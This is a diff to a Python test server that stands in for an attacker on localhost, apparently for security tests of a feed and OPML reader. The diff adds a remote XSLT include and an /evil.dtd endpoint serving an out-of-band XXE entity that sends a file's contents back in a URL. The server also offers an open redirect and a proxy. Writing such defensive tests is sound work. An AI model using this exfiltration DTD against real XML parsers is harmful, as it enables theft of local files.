@@ -2,8 +2,10 @@
 """What a stranger controls, on 127.0.0.1: a subscription list that names
 whatever the test asks (/list.opml?u=URL&u=URL, and the same at /list, a
 URL that does not say OPML), a feed (/feed.xml), a redirect to any URL
-(/redirect?to=URL), and a forward proxy: a request in absolute form
-(GET http://host/path) is answered with a feed and counted.
+(/redirect?to=URL), a stylesheet to include (/inc.xsl), a DTD whose entity
+would send the including document's %file; back in a URL (/evil.dtd), and a
+forward proxy: a request in absolute form (GET http://host/path) is answered
+with a feed and counted.
 
 /log answers the paths of every request so far (proxied ones as they were
 asked), one per line, so a test can tell that nothing reached the server.
@@ -59,6 +61,12 @@ class Handler(http.server.BaseHTTPRequestHandler):
                       "<body>\n%s</body></opml>\n" % outlines, "text/x-opml")
         elif url.path == "/feed.xml":
             self.send(200, FEED % ("Plain feed", "Plain entry", "plain", "plain"))
+        elif url.path == "/inc.xsl":
+            self.send(200, '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
+                      '<xsl:template name="x"><p>REMOTE INCLUDE</p></xsl:template></xsl:stylesheet>')
+        elif url.path == "/evil.dtd":
+            port = self.server.server_address[1]
+            self.send(200, '<!ENTITY %% send SYSTEM "http://127.0.0.1:%d/leak?%%file;">' % port, "application/xml-dtd")
         elif url.path == "/redirect":
             self.send(302, "", headers=[("Location", query["to"][0])])
         elif url.path == "/log":
